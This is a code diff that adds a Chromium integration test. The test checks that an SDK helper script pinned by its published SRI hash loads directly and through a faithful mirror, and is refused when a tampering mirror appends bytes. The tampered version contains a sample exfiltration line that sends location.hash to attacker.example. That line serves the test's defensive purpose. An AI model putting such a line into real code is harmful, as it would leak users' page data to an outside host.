@@ -3,7 +3,10 @@
 // ones whose SRI hash the docs publish, cached only under a versioned path, public to every origin
 // and the same for every caller.
 import { createHash } from 'node:crypto';
-import { readFileSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { chromium, type Browser } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { markdownFiles } from '@/lib/platform/tasks/doc-links';
 import { startGateway, type Gateway } from './harness/gateway-fixture';
@@ -63,5 +66,70 @@ describe('the SDK browser helper served by the gateway', () => {
     expect(fromArtifact.headers.getSetCookie()).toEqual([]);
     expect(fromArtifact.headers.get('vary')).toBeNull();
     expect(Buffer.from(await fromArtifact.arrayBuffer()).equals(body)).toBe(true);
+  });
+});
+
+/**
+ * An artifact's page on its own origin that pins the published hash with an import map and imports
+ * the helper from `url`; resolves to what the page says: "loaded: function" or "refused".
+ */
+function pinnedImportPage(url: string, integrity: string): string {
+  return `<!doctype html><title>…</title>
+<script type="importmap">${JSON.stringify({ integrity: { [url]: integrity } })}</script>
+<script type="module">
+  import(${JSON.stringify(url)}).then((m) => (document.title = 'loaded: ' + typeof m.connectToGateway), () => (document.title = 'refused'));
+</script>`;
+}
+
+describe('an artifact page in Chromium pinning the published SRI hash', () => {
+  let gw: Gateway;
+  let artifact: Server;
+  let artifactUrl: string;
+  let browser: Browser;
+  const published = readFileSync('lib/artifact-sdk/README.md', 'utf8').match(/`\/sdk\/v1\/browser\.js` \| `(sha384-[^`]+)`/)?.[1] ?? '';
+
+  beforeAll(async () => {
+    gw = await startGateway('pglite');
+    // The artifact's origin; /mirror/… stands for a tampering proxy or CDN in front of the gateway.
+    artifact = createServer(async (req, res) => {
+      const url = new URL(req.url ?? '/', 'http://artifact');
+      const mirrored = /^\/(mirror|tampering-mirror)\/sdk\/v1\/browser\.js$/.exec(url.pathname);
+      if (mirrored) {
+        const original = await (await fetch(`${gw.url}/sdk/v1/browser.js`)).text();
+        const added = mirrored[1] === 'tampering-mirror' ? `\nfetch('https://attacker.example/steal?' + location.hash);\n` : '';
+        res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end(original + added);
+        return;
+      }
+      const target = url.searchParams.get('import') ?? '';
+      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(pinnedImportPage(target, published));
+    });
+    await new Promise<void>((resolve) => artifact.listen(0, '127.0.0.1', resolve));
+    artifactUrl = `http://localhost:${(artifact.address() as AddressInfo).port}`;
+    browser = await chromium.launch({
+      executablePath: [process.env.CHROMIUM_PATH, '/usr/bin/chromium'].find((p) => p && existsSync(p)),
+      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'],
+    });
+  }, 120_000);
+  afterAll(async () => {
+    await browser?.close();
+    await new Promise((resolve) => artifact?.close(resolve));
+    await gw?.stop();
+  });
+
+  async function titleAfterImport(url: string): Promise<string> {
+    const page = await (await browser.newContext()).newPage();
+    await page.goto(`${artifactUrl}/?import=${encodeURIComponent(url)}`);
+    await page.waitForFunction(() => document.title !== '…');
+    const title = await page.title();
+    await page.context().close();
+    return title;
+  }
+
+  it('tampering: loads the gateway’s file cross-site, and refuses the same module with bytes added on the way', async () => {
+    expect(published).toMatch(/^sha384-/);
+    expect(await titleAfterImport(`${gw.url}/sdk/v1/browser.js`)).toBe('loaded: function');
+    // The same bytes through a mirror load (the pin is on the bytes, not the origin); one line added, and the browser refuses them.
+    expect(await titleAfterImport(`${artifactUrl}/mirror/sdk/v1/browser.js`)).toBe('loaded: function');
+    expect(await titleAfterImport(`${artifactUrl}/tampering-mirror/sdk/v1/browser.js`)).toBe('refused');
   });
 });
